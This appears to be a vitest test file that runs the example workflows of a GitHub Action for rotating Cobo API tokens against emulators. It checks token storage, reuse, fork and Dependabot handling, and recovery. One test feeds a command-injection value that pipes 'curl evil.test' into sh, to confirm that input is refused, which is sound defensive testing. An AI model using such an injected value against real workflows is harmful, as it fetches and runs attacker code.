import { readdirSync } from 'node:fs';
import { describe, expect } from 'vitest';
import type { Grant } from '../../emulators/github.ts';
import type { StepResult } from '../../emulators/runner/step.ts';
import { REPOSITORY, SECRET, STORE, type Stage } from '../../emulators/stage.ts';
import { expectFailure, expectSuccess } from '../e2e/support/scenario.ts';
import { example, furnish } from './support/furnish.ts';
import { type Run, RunnerModel, type Trigger } from './support/runner-model.ts';
import { DEPENDABOT } from './support/settings.ts';
import { environmentStore, it } from './support/stores.ts';
import { testSteps } from './support/test-steps.ts';

const ENVIRONMENT = environmentStore('cobo');
/** What the examples ask for, and no more. */
const WRITER: Grant = { repo: REPOSITORY, environments: 'write', actions: 'read' };
const SCENE = { environments: ['cobo'], grants: [WRITER] };
const ALL = ['COBO_ACCESS_TOKEN', SECRET];

/** The runs of this action in a run of a workflow, by the name of their job. */
function resultsOf(run: Run): [job: string, result: StepResult][] {
  return run.jobs.flatMap(({ name, steps }) =>
    steps.flatMap(({ result }): [string, StepResult][] => (result === undefined ? [] : [[name, result]])),
  );
}

function resultOf(run: Run): StepResult {
  const [first] = resultsOf(run);
  if (first === undefined) throw new Error('this run has not come to the action');
  return first[1];
}

function expectOneLivingToken({ cobo, github }: Stage, store: string = ENVIRONMENT): void {
  expect(cobo.livingRefreshTokens()).toEqual([github.secretValue(store, SECRET)]);
}

const pullRequest = (actor: string, from: string = REPOSITORY): Trigger => ({
  event: 'pull_request',
  actor,
  payload: { pull_request: { head: { repo: { full_name: from } } } },
});

describe('every example runs on the emulators through the bundle:', () => {
  const TESTED = [
    'dependabot',
    'first-run',
    'github-app-writer',
    'one-environment-per-organization',
    'one-job',
    'recover',
    'reuse-in-pull-requests',
    'rotate-then-matrix',
    'scheduled-rotation',
  ];

  it('none is left out', () => {
    const names = readdirSync(new URL('../../examples/', import.meta.url));
    expect(names.sort()).toEqual(TESTED.map((name) => `${name}.yml`));
  });

  it.concurrent('one-job: the test step gets a token that Cobo takes, three runs in a row', async ({
    open,
  }) => {
    const stage = await open(SCENE);
    furnish(stage, ENVIRONMENT, stage.refreshToken);
    const { seen, play } = testSteps(stage);
    const model = new RunnerModel(stage, play);
    for (let n = 0; n < 3; n++) {
      const run = model.queue(example('one-job'), { event: 'push' });
      await model.work();
      expectSuccess(stage, resultOf(run), { state: 'stored', stores: [ENVIRONMENT] });
      expect(run.conclusion).toBe('success');
    }
    expect(seen.map(({ name, status }) => [name, status])).toEqual(Array(3).fill(['Test', 200]));
    expectOneLivingToken(stage);
  });

  it.concurrent('scheduled-rotation: tokens and expiry are in the environment; a dead refresh token heals', async ({
    open,
  }) => {
    const stage = await open(SCENE);
    furnish(stage, ENVIRONMENT, stage.refreshToken);
    const model = new RunnerModel(stage);
    const first = model.queue(example('scheduled-rotation'));
    await model.work();
    const { outputs } = resultOf(first);
    expectSuccess(stage, resultOf(first), { state: 'stored', stores: [ENVIRONMENT] });
    expect(stage.github.secretValue(ENVIRONMENT, 'COBO_ACCESS_TOKEN')).toBe(outputs['access-token']);
    expect(stage.github.variableValue(ENVIRONMENT, 'COBO_EXPIRES_AT')).toBe(outputs['expires-at']);

    stage.cobo.revokeFamily(stage.github.secretValue(ENVIRONMENT, SECRET) ?? '');
    const second = model.queue(example('scheduled-rotation'));
    await model.work();
    expectSuccess(stage, resultOf(second), { state: 'stored', stores: [ENVIRONMENT] });
    expect(resultOf(second).log).toContain('org_implicit');
    expectOneLivingToken(stage);
  });

  it.concurrent('rotate-then-matrix: four jobs use what one has obtained', async ({ open }) => {
    const stage = await open(SCENE);
    furnish(stage, ENVIRONMENT, stage.refreshToken);
    const { seen, play } = testSteps(stage);
    const model = new RunnerModel(stage, play);
    const run = model.queue(example('rotate-then-matrix'), { event: 'push' });
    await model.work();
    expectSuccess(stage, resultOf(run), { state: 'stored', stores: [ENVIRONMENT] });
    expect(run.conclusion).toBe('success');
    expect(seen.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
  });

  it.concurrent('reuse-in-pull-requests: the first rotates, the others ask nobody', async ({ open }) => {
    const stage = await open(SCENE);
    furnish(stage, ENVIRONMENT, stage.refreshToken);
    const { seen, play } = testSteps(stage);
    const model = new RunnerModel(stage, play);
    const first = model.queue(example('reuse-in-pull-requests'), pullRequest('octocat'));
    await model.work();
    expectSuccess(stage, resultOf(first), { state: 'stored', stores: [ENVIRONMENT] });

    stage.github.resetLog();
    const runs = Array.from({ length: 4 }, () =>
      model.queue(example('reuse-in-pull-requests'), pullRequest('octocat')),
    );
    await model.work();
    for (const run of runs) {
      expectSuccess(stage, resultOf(run), { state: 'reused', stores: [ENVIRONMENT] });
      expect(run.conclusion).toBe('success');
    }
    expect(stage.github.requests).toEqual([]);
    expect(seen.map(({ status }) => status)).toEqual(Array(5).fill(200));

    // Half an hour before the end nobody is content with it any more.
    const soon = new Date(Date.now() + 29 * 60_000).toISOString();
    stage.github.setVariable(ENVIRONMENT, 'COBO_EXPIRES_AT', soon);
    const late = model.queue(example('reuse-in-pull-requests'), pullRequest('octocat'));
    await model.work();
    expectSuccess(stage, resultOf(late), { state: 'stored', stores: [ENVIRONMENT] });
    expectOneLivingToken(stage);
  });

  it.concurrent('reuse-in-pull-requests: a fork and Dependabot are left alone', async ({ open }) => {
    const stage = await open(SCENE);
    furnish(stage, ENVIRONMENT, stage.refreshToken);
    const model = new RunnerModel(stage);
    const runs = [pullRequest('stranger', 'stranger/octo-repo'), pullRequest(DEPENDABOT)].map((trigger) =>
      model.queue(example('reuse-in-pull-requests'), trigger),
    );
    await model.work();
    expect(runs.map(({ conclusion }) => conclusion)).toEqual(['skipped', 'skipped']);
  });

  it.concurrent('one-environment-per-organization: a hundred, and the one whose token is dead stops no other', {
    timeout: 180_000,
  }, async ({ open }) => {
    const names = Array.from({ length: 100 }, (_, n) => `org-${n + 1}`);
    const environments = names.map((name) => `cobo/${name}`);
    // All have one app key, and a nonce is a time: now and then two of a hundred share a millisecond.
    const stage = await open({ ...SCENE, environments, cobo: { takesUsedNonces: true } });
    const { cobo, github } = stage;
    furnish(stage, STORE);
    github.setVariable(STORE, 'COBO_ORGANIZATIONS', JSON.stringify(names));
    const stores = names.map((name) => environmentStore(`cobo/${name}`));
    const before = stores.map((store) => {
      const token = cobo.issueRefreshToken();
      github.setSecret(store, SECRET, token, github.clock - 24 * 3600_000);
      return token;
    });
    cobo.revokeFamily(before[41] ?? '');
    const model = new RunnerModel(stage);
    const run = model.queue(example('one-environment-per-organization'));
    await model.work();

    expect(run.jobs).toHaveLength(100);
    const states = new Map(run.jobs.map(({ matrix, steps }) => [matrix['organization'], steps[0]?.result]));
    for (const [index, store] of stores.entries()) {
      const result = states.get(names[index]);
      if (index === 41) {
        expect(result).toMatchObject({ exitCode: 1, outputs: { 'token-state': 'unspent' } });
        continue;
      }
      expect(result, store).toMatchObject({ exitCode: 0, outputs: { 'token-state': 'stored' } });
      expect(cobo.state(github.secretValue(store, SECRET) ?? ''), store).toBe('living');
      expect(github.secretNames(store).sort(), store).toEqual(ALL);
    }
    // What all have in common is read by all, and written by none.
    expect(github.requests.filter(({ path }) => path.includes('/actions/secrets'))).toEqual([]);
  });

  it.concurrent('one-environment-per-organization: a list longer than a matrix may be runs nothing', async ({
    open,
  }) => {
    const stage = await open(SCENE);
    furnish(stage, STORE);
    const names = Array.from({ length: 257 }, (_, n) => `org-${n + 1}`);
    stage.github.setVariable(STORE, 'COBO_ORGANIZATIONS', JSON.stringify(names));
    const model = new RunnerModel(stage);
    model.queue(example('one-environment-per-organization'));
    await expect(model.work()).rejects.toThrow('a matrix of 257 jobs');
  });

  it.concurrent('github-app-writer: a token of the app, with two permissions, is enough', async ({
    open,
  }) => {
    // Nobody's personal token may do anything.
    const stage = await open({ ...SCENE, grants: [] });
    furnish(stage, ENVIRONMENT, stage.refreshToken);
    stage.github.removeSecret(ENVIRONMENT, 'SECRETS_WRITER_TOKEN');
    stage.github.setSecret(ENVIRONMENT, 'SECRETS_WRITER_PRIVATE_KEY', 'the-private-key-of-the-github-app');
    stage.github.setVariable(ENVIRONMENT, 'SECRETS_WRITER_CLIENT_ID', 'Iv23liEXAMPLE');
    const token = 'ghs_made_for_this_job_alone';
    const model = new RunnerModel(stage, {
      actions: {
        'actions/create-github-app-token': (given) => {
          expect(given).toEqual({
            'client-id': 'Iv23liEXAMPLE',
            'private-key': 'the-private-key-of-the-github-app',
            'permission-environments': 'write',
            'permission-actions': 'read',
          });
          stage.github.addToken({ token, grants: [WRITER], kind: 'integration' });
          return { token };
        },
      },
    });
    const run = model.queue(example('github-app-writer'));
    await model.work();
    expectSuccess(stage, resultOf(run), { state: 'stored', stores: [ENVIRONMENT], secrets: [token] });
    const callers = stage.github.requests.map(({ headers }) => headers['authorization']);
    expect(new Set(callers)).toEqual(new Set([`Bearer ${token}`]));
    expectOneLivingToken(stage);
  });

  it.concurrent('dependabot: a run that Dependabot starts sees no other secrets, and has a token that works', async ({
    open,
  }) => {
    const stage = await open({ ...SCENE, grants: [{ ...WRITER, dependabot_secrets: 'write' }] });
    const store = `dependabot@${REPOSITORY}`;
    furnish(stage, ENVIRONMENT, stage.refreshToken);
    stage.github.setSecret(STORE, 'COBO_ACCESS_TOKEN', 'of the repository, for nobody here');
    stage.github.setSecret(store, 'COBO_APP_SECRET', stage.cobo.client.appSecretHex);
    const { seen, play } = testSteps(stage);
    const model = new RunnerModel(stage, play);
    const rotation = model.queue(example('dependabot'));
    await model.work();
    expectSuccess(stage, resultOf(rotation), { state: 'stored', stores: [ENVIRONMENT, store] });
    expect(rotation.jobs.map(({ conclusion }) => conclusion).sort()).toEqual(['skipped', 'success']);

    const update = model.queue(example('dependabot'), pullRequest(DEPENDABOT));
    const person = model.queue(example('dependabot'), pullRequest('octocat'));
    await model.work();
    expect([update.conclusion, person.conclusion]).toEqual(['success', 'skipped']);
    const token = resultOf(rotation).outputs['access-token'];
    expect(seen).toEqual([{ job: 'test', name: 'Test', token, status: 200 }]);
    expect(Object.keys(update.read.secrets).sort()).toEqual([
      'COBO_ACCESS_TOKEN',
      'COBO_APP_SECRET',
      SECRET,
      'GITHUB_TOKEN',
    ]);
  });

  it.concurrent('recover: the envelope of a sealed run brings the token into the environment', async ({
    open,
  }) => {
    const stage = await open(SCENE);
    furnish(stage, ENVIRONMENT, stage.refreshToken);
    const model = new RunnerModel(stage);
    const match = { method: 'PUT', path: /\/COBO_REFRESH_TOKEN$/ };
    const fault = { kind: 'status', status: 403, when: 'before' } as const;
    stage.github.faults.add({ match, fault, times: 4 });
    const sealed = model.queue(example('scheduled-rotation'));
    await model.work();
    expectFailure(stage, resultOf(sealed), {
      state: 'sealed',
      code: 'store-failed',
      says: [`\`${ENVIRONMENT}\``],
      remedy: 'recovery-envelope',
      stores: [ENVIRONMENT],
    });
    const [inSeal] = stage.cobo.livingRefreshTokens();
    const envelope = /cobo-envelope-v1\.\S+/.exec(resultOf(sealed).rawSummary)?.[0];
    const recovery = model.queue(example('recover'), { event: 'workflow_dispatch', inputs: { envelope } });
    await model.work();
    const used = inSeal ?? '';
    expectSuccess(stage, resultOf(recovery), { state: 'stored', stores: [ENVIRONMENT], used });
    expectOneLivingToken(stage);

    const next = model.queue(example('scheduled-rotation'));
    await model.work();
    expectSuccess(stage, resultOf(next), { state: 'stored', stores: [ENVIRONMENT] });
  });

  it.concurrent('recover: what is no envelope is refused, and run by no shell', async ({ open }) => {
    const stage = await open(SCENE);
    furnish(stage, ENVIRONMENT, stage.refreshToken);
    const scripts: string[] = [];
    const model = new RunnerModel(stage, { run: ({ script }) => void scripts.push(script) });
    const inputs = { envelope: 'cobo-envelope-v1."; curl evil.test | sh #' };
    const run = model.queue(example('recover'), { event: 'workflow_dispatch', inputs });
    await model.work();
    expectFailure(stage, resultOf(run), {
      state: 'unspent',
      code: 'envelope-invalid',
      says: ['recovery-envelope'],
      remedy: 'Copy it whole',
    });
    expect(scripts).toEqual([]);
    expect(stage.cobo.requests).toEqual([]);
  });

  it.concurrent('first-run: checks first, then obtains a pair, from which the schedule goes on', async ({
    open,
  }) => {
    const stage = await open(SCENE);
    furnish(stage, ENVIRONMENT);
    const model = new RunnerModel(stage);
    const check = model.queue(example('first-run'), { event: 'workflow_dispatch' });
    await model.work();
    expectSuccess(stage, resultOf(check), { state: 'unspent', stores: [ENVIRONMENT] });
    expect(stage.cobo.requests).toEqual([]);
    expect(stage.github.secretNames(ENVIRONMENT)).not.toContain(SECRET);

    const inputs = { 'check-only': false };
    const obtain = model.queue(example('first-run'), { event: 'workflow_dispatch', inputs });
    await model.work();
    expectSuccess(stage, resultOf(obtain), { state: 'stored', stores: [ENVIRONMENT] });
    expect(stage.github.secretNames(ENVIRONMENT)).toEqual(expect.arrayContaining(ALL));

    const rotation = model.queue(example('scheduled-rotation'));
    await model.work();
    expectSuccess(stage, resultOf(rotation), { state: 'stored', stores: [ENVIRONMENT] });
  });
});
